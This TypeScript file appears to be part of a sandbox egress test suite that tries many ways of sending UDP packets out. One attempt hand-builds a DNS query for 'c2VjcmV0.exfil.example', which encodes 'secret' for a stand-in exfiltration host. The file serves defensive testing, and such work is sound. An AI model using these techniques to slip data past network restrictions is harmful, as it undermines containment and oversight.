/** UDP, in every form the runtime offers. */
import dgram from 'node:dgram';
import { places } from '../places.ts';
import type { Attempt } from './attempt.ts';

function send(type: 'udp4' | 'udp6', host: string, port: number, payload: string | Buffer): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket(type).on('error', reject);
    socket.send(payload, port, host, (error) => {
      socket.close();
      if (error === null) resolve();
      else reject(error);
    });
  });
}

/** A DNS query for a name, built by hand. */
export function dnsQuery(name: string): Buffer {
  const labels = name.split('.').flatMap((label) => [label.length, ...Buffer.from(label)]);
  return Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]);
}

export const datagrams: Attempt[] = [
  { id: 'udp', title: 'dgram send', run: () => send('udp4', places.cloud, 443, 'x') },
  { id: 'udp6', title: 'dgram send, IPv6', run: () => send('udp6', places.cloud6, 443, 'x') },
  { id: 'udp-name', title: 'dgram send to a name', run: () => send('udp4', 'api.deepseek.com', 443, 'x') },
  {
    id: 'udp-connected',
    title: 'dgram connect, then send',
    run: () =>
      new Promise((resolve, reject) => {
        const socket = dgram.createSocket('udp4').on('error', reject);
        socket.connect(443, places.cloud, (error?: Error) => {
          if (error !== undefined) return reject(error);
          socket.send('x', () => resolve(socket.close()));
        });
      }),
  },
  {
    id: 'udp-many',
    title: 'dgram send of a list of buffers',
    run: () =>
      new Promise((resolve, reject) => {
        const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true }).on('error', reject);
        socket.send([Buffer.from('a'), Buffer.from('b')], 443, places.cloud, () => resolve(socket.close()));
      }),
  },
  {
    id: 'udp-dns',
    title: 'DNS query made by hand over UDP',
    run: () => send('udp4', places.resolver, 53, dnsQuery('c2VjcmV0.exfil.example')),
  },
];
